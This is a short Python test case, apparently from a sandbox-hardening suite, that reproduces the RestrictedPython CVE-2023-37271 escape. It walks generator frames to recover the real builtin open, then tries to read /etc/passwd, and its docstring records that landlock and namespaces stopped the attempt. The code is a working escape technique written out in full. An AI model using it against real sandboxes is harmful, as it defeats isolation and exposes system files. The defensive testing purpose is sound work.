"""Walks back from a generator that inspects its own frame.

tries: reach the frames of the sandbox by gi_frame and f_back
layers: landlock, namespaces
observed: stopped
source: RestrictedPython CVE-2023-37271
"""


def walk():
    yield own.gi_frame.f_back


own = walk()
frame = next(iter([frame for frame in own]))
while frame.f_back is not None:
    frame = frame.f_back
open_ = frame.f_globals["__builtins__"]
open_ = open_["open"] if isinstance(open_, dict) else open_.open

try:
    with open_("/etc/passwd", "rb") as file:
        result = f"escaped: {len(file.read(16))} bytes of /etc/passwd"
except OSError as error:
    result = f"stopped: {type(error).__name__}"
